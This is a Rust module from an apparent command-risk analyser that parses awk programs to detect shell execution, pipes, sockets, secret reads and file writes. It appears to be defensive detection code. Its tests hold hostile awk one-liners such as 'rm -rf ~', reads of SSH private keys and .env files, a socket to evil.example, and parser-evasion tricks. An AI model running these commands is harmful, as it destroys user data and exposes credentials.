//! awk programs: `system`, pipes, and files that are written.

use super::actions;
use crate::chars::{UNKNOWN, has_unknown};
use crate::code;
use crate::effect::{Certainty, EffectKind, RiskLevel, Span, StepOrigin};
use crate::interpreter::engine::{Engine, Stream};
use crate::interpreter::expand::Arg;
use crate::syntax::parse::Base;

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    Str(String),
    Regex,
    Num,
    Op(char),
    /// `>>`
    Append,
    /// `++`, `--`
    Step,
    /// `||`, `>=` and other two-character operators without effects.
    Other,
    End,
}

/// The rule by which an awk finds the end of a regular expression with brackets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BracketRule {
    /// A slash between brackets is literal; a backslash escapes.
    Escaped,
    /// A slash and a backslash between brackets are literal.
    Plain,
    /// A slash always ends the expression.
    Ignored,
}

/// A tokenised program, under one of the rules.
#[derive(Debug, PartialEq, Eq)]
struct LexResult {
    toks: Vec<Tok>,
    /// An awk with this rule rejects the program.
    invalid: bool,
    /// Part of the program is ambiguous.
    ambiguous: bool,
}

struct Lexer<'t> {
    c: &'t [char],
    i: usize,
    brackets: BracketRule,
    out: LexResult,
    /// Open brackets: `[`, or `(` with true after `if`, `while`, `for`.
    open: Vec<(char, bool)>,
    /// The last closed bracket ended the head of a statement.
    head: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Slash {
    Divides,
    Opens,
    Either,
}

fn lex(c: &[char], brackets: BracketRule) -> LexResult {
    let mut l = Lexer {
        c,
        i: 0,
        brackets,
        out: LexResult {
            toks: Vec::new(),
            invalid: false,
            ambiguous: false,
        },
        open: Vec::new(),
        head: false,
    };
    while l.i < c.len() && !l.out.invalid {
        l.token();
    }
    l.out
}

impl Lexer<'_> {
    fn at(&self, i: usize) -> char {
        self.c.get(i).copied().unwrap_or('\n')
    }

    fn push(&mut self, t: Tok, length: usize) {
        self.out.toks.push(t);
        self.i += length;
    }

    fn token(&mut self) {
        let (ch, next) = (self.at(self.i), self.at(self.i + 1));
        match ch {
            '#' => {
                while self.i < self.c.len() && self.at(self.i) != '\n' {
                    self.i += 1;
                }
            }
            '\\' if next == '\n' => self.i += 2,
            '\\' if next == '\r' && self.at(self.i + 2) == '\n' => self.i += 3,
            '\\' => {
                self.out.ambiguous = true;
                self.i += 1;
            }
            '\n' | ';' | '{' | '}' => self.push(Tok::End, 1),
            _ if ch.is_whitespace() => self.i += 1,
            '"' => self.string(),
            '/' => match self.slash() {
                Slash::Divides => self.push(Tok::Op('/'), 1),
                slash => {
                    self.out.ambiguous |= slash == Slash::Either;
                    self.regex();
                }
            },
            _ if ch.is_ascii_digit() => self.number(),
            _ if ch.is_alphabetic() || ch == '_' || ch == '@' => {
                let from = self.i;
                self.i += 1;
                while self.at(self.i).is_alphanumeric() || self.at(self.i) == '_' {
                    self.i += 1;
                }
                let word: String = self
                    .c
                    .get(from..self.i)
                    .unwrap_or_default()
                    .iter()
                    .collect();
                if word == "@" {
                    // `@/…/` is a regular expression.
                    self.out.ambiguous |= next != '/';
                    self.push(Tok::Op('@'), 0);
                } else {
                    self.push(Tok::Word(word), 0);
                }
            }
            '>' if next == '>' => self.push(Tok::Append, 2),
            '|' if next == '|' => self.push(Tok::Other, 2),
            '&' if next == '&' => self.push(Tok::Other, 2),
            '+' | '-' if next == ch => self.push(Tok::Step, 2),
            // gawk's two-way pipes name their command in the same position.
            '|' if next == '&' => self.push(Tok::Op('|'), 2),
            '>' | '<' | '=' | '!' if next == '=' => self.push(Tok::Other, 2),
            '(' | '[' => {
                let head = ch == '('
                    && matches!(
                        self.out.toks.last(),
                        Some(Tok::Word(w)) if matches!(w.as_str(), "if" | "while" | "for" | "switch")
                    );
                self.open.push((ch, head));
                self.push(Tok::Op(ch), 1);
            }
            ')' | ']' => {
                let opens = if ch == ')' { '(' } else { '[' };
                match self.open.pop() {
                    Some((c, head)) if c == opens => self.head = head,
                    _ => self.out.invalid = true,
                }
                self.push(Tok::Op(ch), 1);
            }
            _ => self.push(Tok::Op(ch), 1),
        }
    }

    /// Classifies a slash by the token before it.
    fn slash(&self) -> Slash {
        let value = |t: Option<&Tok>| match t {
            Some(Tok::Word(w)) => !takes_operand(w),
            Some(Tok::Num | Tok::Op(')' | ']')) => true,
            _ => false,
        };
        match self.out.toks.last() {
            // In some awks a line may end between brackets, and the statement continues.
            Some(Tok::End) if !self.open.is_empty() => Slash::Either,
            None | Some(Tok::End | Tok::Append | Tok::Other) => Slash::Opens,
            Some(Tok::Op(')')) if self.head => Slash::Opens,
            Some(Tok::Op(')' | ']') | Tok::Num) => Slash::Divides,
            Some(Tok::Op('$' | UNKNOWN)) => Slash::Either,
            Some(Tok::Op(_)) => Slash::Opens,
            Some(Tok::Step) => {
                let n = self.out.toks.len();
                if value(n.checked_sub(2).and_then(|k| self.out.toks.get(k))) {
                    Slash::Divides
                } else {
                    Slash::Either
                }
            }
            Some(Tok::Str(_) | Tok::Regex) => Slash::Either,
            Some(Tok::Word(w)) => match w.as_str() {
                "print" | "printf" | "return" | "in" | "else" | "do" | "case" => Slash::Opens,
                w if takes_operand(w) => Slash::Either,
                _ => Slash::Divides,
            },
        }
    }

    fn string(&mut self) {
        let mut text = String::new();
        self.i += 1;
        while self.i < self.c.len() && self.at(self.i) != '"' {
            if self.at(self.i) == '\\' {
                text.push('\\');
                self.i += 1;
            } else if self.at(self.i) == '\n' {
                self.out.ambiguous = true;
            }
            if let Some(x) = self.c.get(self.i) {
                text.push(*x);
            }
            self.i += 1;
        }
        self.out.invalid |= self.i >= self.c.len();
        self.push(Tok::Str(crate::syntax::escapes::ansi_c(&text).0), 1);
    }

    fn regex(&mut self) {
        self.i += 1;
        while self.i < self.c.len() && self.at(self.i) != '/' {
            match self.at(self.i) {
                '\\' => self.i += 2,
                '[' if self.brackets != BracketRule::Ignored => self.set(),
                '\n' => {
                    self.out.ambiguous = true;
                    self.i += 1;
                }
                _ => self.i += 1,
            }
        }
        self.out.invalid |= self.i >= self.c.len();
        self.push(Tok::Regex, 1);
    }

    /// Skips a bracket expression in a regular expression.
    fn set(&mut self) {
        self.i += 1;
        self.i += usize::from(self.at(self.i) == '^');
        self.i += usize::from(self.at(self.i) == ']');
        while self.i < self.c.len() {
            match (self.at(self.i), self.at(self.i + 1)) {
                (']', _) => {
                    self.i += 1;
                    return;
                }
                ('\n', _) => return,
                ('\\', _) if self.brackets == BracketRule::Escaped => self.i += 2,
                ('[', mark @ (':' | '.' | '=')) => {
                    // `[:alpha:]`: names are short.
                    let from = self.i + 2;
                    let end =
                        (from..from + 20).find(|k| self.at(*k) == mark && self.at(k + 1) == ']');
                    self.i = end.map_or(from, |k| k + 2);
                }
                _ => self.i += 1,
            }
        }
    }

    /// A letter directly after a number begins a word: `1system("x")`.
    fn number(&mut self) {
        let from = self.i;
        if self.at(from) == '0' && matches!(self.at(from + 1), 'x' | 'X') {
            self.i += 2;
            while self.at(self.i).is_ascii_hexdigit() {
                self.i += 1;
            }
        } else {
            while self.at(self.i).is_ascii_digit() || self.at(self.i) == '.' {
                self.i += 1;
            }
            let sign = usize::from(matches!(self.at(self.i + 1), '+' | '-'));
            if matches!(self.at(self.i), 'e' | 'E') && self.at(self.i + 1 + sign).is_ascii_digit() {
                self.i += 2 + sign;
                while self.at(self.i).is_ascii_digit() {
                    self.i += 1;
                }
            }
        }
        self.push(Tok::Num, 0);
    }
}

/// Returns whether a word may be followed by an expression.
fn takes_operand(word: &str) -> bool {
    matches!(
        word,
        "print"
            | "printf"
            | "return"
            | "in"
            | "else"
            | "do"
            | "case"
            | "exit"
            | "getline"
            | "length"
            | "delete"
            | "next"
            | "nextfile"
            | "break"
            | "continue"
            | "if"
            | "while"
            | "for"
            | "BEGIN"
            | "END"
            | "func"
            | "function"
    )
}

pub(super) fn awk_code(cx: &mut Engine<'_>, arg: &Arg) {
    let c: Vec<char> = arg.text.chars().collect();
    let mut readings = vec![lex(&c, BracketRule::Escaped)];
    if c.contains(&'[') && c.contains(&'/') {
        for brackets in [BracketRule::Plain, BracketRule::Ignored] {
            let reading = lex(&c, brackets);
            if !readings.contains(&reading) {
                readings.push(reading);
            }
        }
    }
    cx.burn(readings.len() * c.len() / 2);
    let all_broken = readings.iter().all(|r| r.invalid);
    if all_broken || readings.iter().any(|r| r.ambiguous) {
        cx.dynamic(
            arg.span,
            "an awk program that can be read in more than one way",
        );
    }
    for reading in readings.iter().filter(|r| all_broken || !r.invalid) {
        awk_program(cx, &reading.toks, arg.span);
    }
}

/// Returns whether an unknown part in front of these tokens may be a part of a function's name:
/// `sys$x(…)`, `s${x}tem(…)`.
fn names_function(after: &[Tok]) -> bool {
    const FUNCTIONS: [&str; 22] = [
        "substr", "length", "index", "split", "sub", "gsub", "gensub", "match", "sprintf",
        "tolower", "toupper", "int", "sqrt", "exp", "log", "sin", "cos", "atan2", "rand", "srand",
        "strftime", "systime",
    ];
    match after {
        [Tok::Op('('), ..] => true,
        [Tok::Word(name), Tok::Op('('), ..] => {
            let keyword = matches!(name.as_str(), "print" | "printf" | "if" | "while" | "for");
            !keyword && !FUNCTIONS.contains(&name.as_str())
        }
        _ => false,
    }
}

fn awk_program(cx: &mut Engine<'_>, toks: &[Tok], span: Span) {
    let mut printing = false;
    let mut depth = 0usize;
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::End => {
                printing = false;
                depth = 0;
            }
            Tok::Op('(') => depth += 1,
            Tok::Op(')') => depth = depth.saturating_sub(1),
            Tok::Word(w) if matches!(w.as_str(), "print" | "printf") => {
                printing = true;
                depth = 0;
            }
            Tok::Word(w) if w == "system" => {
                match (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3)) {
                    (Some(Tok::Op('(')), Some(Tok::Str(s)), Some(Tok::Op(')')))
                        if !has_unknown(s) =>
                    {
                        code::run_inner_shell(cx, s, span);
                    }
                    (Some(Tok::Op('(')), Some(Tok::Str(s)), Some(_)) => {
                        // A command with fields appended: its known part, followed by an
                        // unknown one.
                        code::run_inner_shell(cx, &format!("{s}{UNKNOWN}"), span);
                        cx.dynamic(span, "awk runs a command that it builds from its input");
                    }
                    (Some(Tok::Op('(')), ..) => {
                        cx.dynamic(span, "awk runs a command that it computes");
                    }
                    _ => cx.dynamic(span, "awk runs a command that it computes"),
                }
            }
            Tok::Word(w) if w == "ENVIRON" => awk_environment(cx, toks, i, span),
            Tok::Word(w) if w == "SYMTAB" => {
                cx.dynamic(span, "awk reaches variables by computed names");
            }
            // An unknown part at the beginning of a statement may be any statement.
            Tok::Op(UNKNOWN)
                if matches!(
                    i.checked_sub(1).map(|k| toks.get(k)),
                    None | Some(Some(Tok::End))
                ) && matches!(toks.get(i + 1), None | Some(Tok::End)) =>
            {
                cx.dynamic(span, "a part of the awk program isn't known");
            }
            Tok::Op(UNKNOWN) if names_function(toks.get(i + 1..).unwrap_or_default()) => {
                cx.dynamic(span, "awk calls a function whose name isn't known");
            }
            Tok::Word(w) if w == "getline" => {
                if matches!(
                    i.checked_sub(1).and_then(|k| toks.get(k)),
                    Some(Tok::Op('|'))
                ) {
                    awk_pipe(cx, text_before(toks, i - 1), false, span);
                } else if matches!(toks.get(i + 1), Some(Tok::Op('<')))
                    || matches!(toks.get(i + 2), Some(Tok::Op('<')))
                {
                    let from = if matches!(toks.get(i + 1), Some(Tok::Op('<'))) {
                        i + 2
                    } else {
                        i + 3
                    };
                    let file = match toks.get(from..).unwrap_or_default() {
                        [Tok::Str(s), Tok::Op(')' | '>') | Tok::Other | Tok::End, ..] => s.clone(),
                        [Tok::Str(s)] => s.clone(),
                        [Tok::Word(_)] => UNKNOWN.to_string(),
                        [
                            Tok::Word(_),
                            Tok::Op(')' | '>' | '[') | Tok::Other | Tok::End,
                            ..,
                        ] => UNKNOWN.to_string(),
                        _ => {
                            let why = "awk reads a file whose name it computes";
                            let certainty = Certainty::Possible;
                            let (kind, risk) = (EffectKind::Read, RiskLevel::Medium);
                            cx.emit_raw(kind, None, certainty, span, risk, why);
                            continue;
                        }
                    };
                    cx.path_read(&Arg::literal(file, span));
                }
            }
            Tok::Op('|') if !matches!(toks.get(i + 1), Some(Tok::Word(w)) if w == "getline") => {
                awk_pipe(cx, text_after(toks, i + 1), true, span);
            }
            // A text added to the arguments is opened like a file given there.
            Tok::Word(w) if w == "ARGV" => {
                let value = toks
                    .iter()
                    .skip(i)
                    .take(24)
                    .position(|t| *t == Tok::Op('='))
                    .map(|n| i + n + 1);
                if let Some(file) = value.and_then(|k| text_after(toks, k)) {
                    cx.path_read(&Arg::literal(file, span));
                }
            }
            Tok::Op('>') | Tok::Append if printing && depth == 0 => {
                // Only a string, name, field or bracket can be a file; `$3 > 5` compares.
                match toks.get(i + 1) {
                    Some(Tok::Str(s)) => {
                        let partial = !matches!(toks.get(i + 2), None | Some(Tok::End));
                        let name = if partial {
                            format!("{s}{UNKNOWN}")
                        } else {
                            s.clone()
                        };
                        actions::code_write(cx, &Arg::literal(name, span));
                    }
                    _ => {
                        cx.emit_raw(
                            EffectKind::Write,
                            None,
                            Certainty::Possible,
                            span,
                            RiskLevel::High,
                            "awk writes to a file whose name it computes",
                        );
                    }
                }
            }
            Tok::Word(w) if w == "@load" || w == "@include" => {
                cx.dynamic(span, "awk loads other code");
            }
            Tok::Word(w) if w.starts_with('@') && w != "@namespace" => {
                cx.dynamic(span, "awk calls a function by a computed name");
            }
            _ => {}
        }
    }
    // File names may be assembled or passed in variables, so any text that names a secret
    // counts.
    if toks
        .iter()
        .any(|t| matches!(t, Tok::Word(w) if w == "getline" || w == "ARGV"))
    {
        // Adjacent strings are one text.
        for run in toks.split(|t| !matches!(t, Tok::Str(_))) {
            let parts = run.iter().filter_map(text_of);
            let all: String = parts.clone().collect();
            for s in parts.chain([all.as_str()]) {
                if s.contains(['/', '.']) && cx.classify(s).secret {
                    cx.path_read(&Arg::literal(s, span));
                }
            }
        }
    }
}

/// Handles `ENVIRON` at `i`: one variable by its name, or all of them.
fn awk_environment(cx: &mut Engine<'_>, toks: &[Tok], i: usize, span: Span) {
    let before = i.checked_sub(2).and_then(|k| toks.get(k..i));
    let secret = match toks.get(i + 1..i + 4) {
        Some([Tok::Op('['), Tok::Str(name), Tok::Op(']')]) => {
            crate::interpreter::env::names_secret(name) || has_unknown(name)
        }
        // `"HOME" in ENVIRON` only tests.
        _ => !matches!(before, Some([Tok::Str(_), Tok::Word(w)]) if w == "in"),
    };
    if secret {
        cx.emit_raw(
            EffectKind::Credential,
            None,
            Certainty::Possible,
            span,
            RiskLevel::High,
            "awk reads secrets from the environment",
        );
    }
}

/// Runs the command at the end of a pipe. With `to`, it receives awk's output.
fn awk_pipe(cx: &mut Engine<'_>, command: Option<String>, to: bool, span: Span) {
    let Some(command) = command.filter(|c| !has_unknown(c)) else {
        cx.dynamic(span, "awk has a pipe to a command that it computes");
        return;
    };
    if command.starts_with("/inet") {
        let why = "awk exchanges unknown data over a socket";
        cx.emit_raw(
            EffectKind::Network,
            Some(command),
            Certainty::Certain,
            span,
            RiskLevel::High,
            why,
        );
        return;
    }
    // Any program that takes code from its input runs what awk prints, whatever the program's
    // name.
    let stdin = if to {
        Stream::unknown()
    } else {
        Stream::default()
    };
    cx.run_text(&command, Base::Fixed(span), StepOrigin::Code, &stdin, false);
}

fn text_of(t: &Tok) -> Option<&str> {
    if let Tok::Str(s) = t { Some(s) } else { None }
}

/// Returns whether a program prints nothing, so that editing in place empties its files.
pub(crate) fn prints_nothing(program: &str) -> bool {
    let c: Vec<char> = program.chars().collect();
    let toks = lex(&c, BracketRule::Escaped).toks;
    let prints = toks
        .iter()
        .any(|t| matches!(t, Tok::Word(w) if matches!(w.as_str(), "print" | "printf")));
    // A pattern without an action prints.
    let after = program.rsplit('}').next().unwrap_or_default();
    !prints && program.contains('{') && after.trim().is_empty()
}

/// Returns the text that begins at `i`, if the rest of the statement consists of strings.
fn text_after(toks: &[Tok], i: usize) -> Option<String> {
    let strings = toks.get(i..)?.iter().map_while(|t| {
        if let Tok::Str(s) = t {
            Some(s.as_str())
        } else {
            None
        }
    });
    let parts: Vec<&str> = strings.collect();
    let ends = matches!(
        toks.get(i + parts.len()),
        None | Some(Tok::End | Tok::Op(')'))
    );
    (ends && !parts.is_empty()).then(|| parts.concat())
}

/// Returns the text before the token at `i`, if it consists of strings.
fn text_before(toks: &[Tok], i: usize) -> Option<String> {
    let strings = toks.get(..i)?.iter().rev().map_while(|t| {
        if let Tok::Str(s) = t {
            Some(s.as_str())
        } else {
            None
        }
    });
    let mut parts: Vec<&str> = strings.collect();
    parts.reverse();
    let before = i.checked_sub(parts.len() + 1).and_then(|k| toks.get(k));
    let begins = match before {
        None | Some(Tok::End | Tok::Op('(' | '!' | '&' | '?' | ':' | ',') | Tok::Other) => true,
        Some(Tok::Word(w)) => matches!(w.as_str(), "else" | "do" | "return" | "print"),
        // `while (…) "cmd" | getline`
        Some(Tok::Op(')')) => true,
        _ => false,
    };
    (begins && !parts.is_empty()).then(|| parts.concat())
}

#[cfg(test)]
mod tests {
    use super::{BracketRule, Tok, lex};
    use crate::{RiskLevel, risk_of as risk};

    #[test]
    fn slashes_open_or_divide() {
        let regexes = |text: &str, brackets| {
            let c: Vec<char> = text.chars().collect();
            let lexed = lex(&c, brackets);
            let n = lexed.toks.iter().filter(|t| **t == Tok::Regex).count();
            (n, lexed.invalid, lexed.ambiguous)
        };
        let gawk = |text: &str| regexes(text, BracketRule::Escaped);
        assert_eq!(gawk("x = 6 /2; y = 4/ 2"), (0, false, false));
        assert_eq!(gawk("if (x) /a/ {print}"), (1, false, false));
        assert_eq!(gawk("(x) / 2 / 3"), (0, false, false));
        assert_eq!(gawk("x++ / 2"), (0, false, false));
        assert_eq!(gawk("a[1]/2; $0 ~ /#/"), (1, false, false));
        assert_eq!(gawk("/a\\/\"/ {print}"), (1, false, false));
        assert_eq!(gawk("x = @/[/]/"), (1, false, false));
        assert_eq!(gawk("/[[:alpha:]/]/"), (1, false, false));
        assert!(gawk("/a/ / \"/\"").2, "a regular expression in front");
        assert!(gawk("length / \"/\"").2);
        assert!(gawk("x = (y\n/ \"/\")").2);
        assert!(gawk("/[/ {print}").1, "never closed");
        assert!(regexes("/[/]/ {print}", BracketRule::Ignored).1);
        assert_eq!(regexes("a[/[/]", BracketRule::Ignored), (1, false, false));
    }

    #[test]
    fn patterns_hide_nothing() {
        for cmd in [
            r#"awk '/[/"]/{system("rm -rf ~")}#"/' f"#,
            r#"awk '/[/]/{system("rm -rf ~")}' f"#,
            r#"awk '/[\]/"]/{system("rm -rf ~")}#"/' f"#,
            r#"awk '/[]/"]/{system("rm -rf ~")}#"/' f"#,
            r#"awk 'a[/[/] {system("rm -rf ~")}#]/' f"#,
            r#"awk '{x = y / "/"; system("rm -rf ~")}' f"#,
            r#"awk '{if (x) /"/; system("rm -rf ~") #"/
}' f"#,
            r#"awk '/a/ / "/" {system("rm -rf ~")} #"' f"#,
            r#"awk '{x = @/"/; system("rm -rf ~") #"/
}' f"#,
            r#"awk 'BEGIN{x = 1system("rm -rf ~")}'"#,
            "awk 'BEGIN{x = y \\\n/ \"/\"; system(\"rm -rf ~\")}'",
        ] {
            assert_eq!(risk(cmd), RiskLevel::High, "{cmd}");
        }
        for cmd in [
            r#"awk '{sub(/[^/]*$/, ""); print}' f"#,
            r"awk -F/ '{print $NF/2, ($1 + $2)/2}' f",
            r#"awk '/[/"]/ {print}' f"#,
            r"awk '{n = split($0, a, /[,;]/); print a[n]/n}' f",
            r"awk '$1 ~ /^\/usr\// {c++} END {print c/NR}' f",
        ] {
            assert_eq!(risk(cmd), RiskLevel::Low, "{cmd}");
        }
    }

    #[test]
    fn secrets_are_read_by_name_and_in_variables() {
        for cmd in [
            r#"awk 'BEGIN{print ENVIRON["API_KEY"]}'"#,
            r"awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'",
            r#"gawk 'BEGIN{print SYMTAB["ENVIRON"]["API_KEY"]}'"#,
            r"awk -v f=.env 'BEGIN{while ((getline l < f) > 0) print l}'",
            r"awk 'BEGIN{while ((getline l < f) > 0) print l}' f=.env",
            r"awk '{while ((getline l < f) > 0) print l}' f=.env a",
            r#"awk 'BEGIN{f = ".e" "nv"; while ((getline l < f) > 0) print l}'"#,
            r"gawk -i inplace '{ }' src/main.c",
            r"gawk -i inplace '{x = 1}' src/main.c",
        ] {
            assert_eq!(risk(cmd), RiskLevel::High, "{cmd}");
        }
        let computed = r#"awk '{while ((getline l < (d "/" $1)) > 0) print l}' a"#;
        assert_eq!(risk(computed), RiskLevel::Medium);
        for cmd in [
            r#"awk 'BEGIN{print ENVIRON["HOME"]; if ("CI" in ENVIRON) print 1}'"#,
            r#"awk 'BEGIN{while ((getline l < "a.txt") > 0) print l}'"#,
        ] {
            assert_eq!(risk(cmd), RiskLevel::Low, "{cmd}");
        }
        let cmd = "gawk -i inplace '/x/{next}1' src/main.c";
        assert_eq!(risk(cmd), RiskLevel::Medium);
    }

    #[test]
    fn pipes_run_their_commands() {
        for cmd in [
            r#"awk '{print "rm -rf src" |& "sh"}' a"#,
            r#"awk 'BEGIN{print "rm -rf src"|&"sh"}'"#,
            r#"awk 'BEGIN{print "x" |& "/inet/tcp/0/evil.example/80"}'"#,
            r#"awk '{print | "node"}' a"#,
            r#"awk '{print | "ruby"}' a"#,
            r#"awk '{print | "python3.11"}' a"#,
            r#"awk '{print | "awk -f -"}' a"#,
            r#"awk '{print | "env sh"}' a"#,
            r#"awk '{print | "exec sh"}' a"#,
            r#"awk '{print | "(sh)"}' a"#,
            r#"awk '{print | "cat " "; rm -rf src"}' a"#,
            r#"awk 'BEGIN{"cat " "a; rm -rf src" | getline}'"#,
            r#"awk 'BEGIN{f="system"; @f("rm -rf src")}'"#,
            r#"awk -vx=system 'BEGIN{@x("rm -rf src")}'"#,
            r#"awk 'BEGIN{ARGV[1]="/home/dev/.ssh/id_rsa"; ARGC=2} {print}'"#,
            r#"awk 'BEGIN{f="/home/dev/.ssh/" "id_rsa"; while ((getline l < f) > 0) print l}'"#,
        ] {
            assert_eq!(risk(cmd), RiskLevel::High, "{cmd}");
        }
        for cmd in [
            r#"awk '{print | "sort -rn"}' a"#,
            r#"awk '{print $1 |& "sort"}' a"#,
            r#"awk '{print | "cat 1>&2"}' a"#,
            r#"awk '{ "date +%s" | getline now; print now }' a"#,
            r#"awk 'BEGIN { while (("ls src" | getline f) > 0) print f }'"#,
            r"awk 'NR==1{ARGV[ARGC++]=ARGV[1]} {print}' a.txt",
            r#"awk 'BEGIN{ARGV[1]="a.txt"; ARGC=2} {print}'"#,
            r#"awk '$1 == "a@b.example" {print}' a.txt"#,
        ] {
            assert_eq!(risk(cmd), RiskLevel::Low, "{cmd}");
        }
    }
}
